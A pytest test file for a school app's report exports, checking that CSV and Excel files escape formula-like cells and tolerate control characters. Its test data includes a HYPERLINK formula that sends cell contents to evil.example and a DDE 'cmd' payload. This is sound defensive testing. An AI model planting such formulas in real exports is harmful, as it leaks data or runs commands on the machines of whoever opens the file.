"""Exports never carry a live formula, and a stored control character cannot break them (#17)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from edulite.db import session_scope
from edulite.reports.exports import safe_text, to_csv, to_xlsx
from tests.support.factories import add_item

MON = date(2026, 11, 16)
RANGE = "from=2026-11-13&to=2026-11-22"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def principal(signed_in):
    return signed_in("principal")


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_starting_like_a_formula_get_an_apostrophe(text):
    body = to_csv(["description", "minutes"], {}, [{"description": text, "minutes": -3}])
    row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
    assert row == ["'" + text, "-3"]  # numbers are left as numbers


@pytest.mark.parametrize("text", ["练习册 p.3", "3-4 页", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert safe_text(text, for_csv=True) == text == safe_text(text, for_csv=False)


def test_xlsx_writes_every_text_cell_as_text_and_numbers_as_numbers():
    body = to_xlsx([("Items", ["description", "minutes"], {}, [{"description": t, "minutes": 5} for t in HOSTILE])])
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula element anywhere
    rows = list(load_workbook(io.BytesIO(body)).active.values)[1:]
    # XML turns a CR into a line feed; the text is otherwise kept exactly.
    assert [r[0] for r in rows] == [t.replace("\r", "\n") for t in HOSTILE] and all(r[1] == 5 for r in rows)


def test_a_teachers_formula_description_reaches_the_principals_files_as_text(app, world, principal):
    with session_scope(app) as s:
        add_item(s, world, day=MON, minutes=20, description=LEAK)
    xlsx = principal.get(f"/principal/exports/file?{RANGE}&format=xlsx")
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as z:
        assert all("<f>" not in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    items = load_workbook(io.BytesIO(xlsx.data)).worksheets[1]
    assert LEAK in [c for row in items.values for c in row]
    body = principal.get(f"/principal/exports/file?{RANGE}&format=csv&table=items").data.decode("utf-8-sig")
    assert "'" + LEAK.replace('"', '""') in body


def test_a_stored_control_character_does_not_break_the_excel_export(app, world, principal):
    with session_scope(app) as s:
        add_item(s, world, day=MON, minutes=20, description="练习\x00册\x07第\x1b3页")
    response = principal.get(f"/principal/exports/file?{RANGE}&format=xlsx")
    assert response.status_code == 200
    items = load_workbook(io.BytesIO(response.data)).worksheets[1]
    assert "练习册第3页" in [c for row in items.values for c in row]
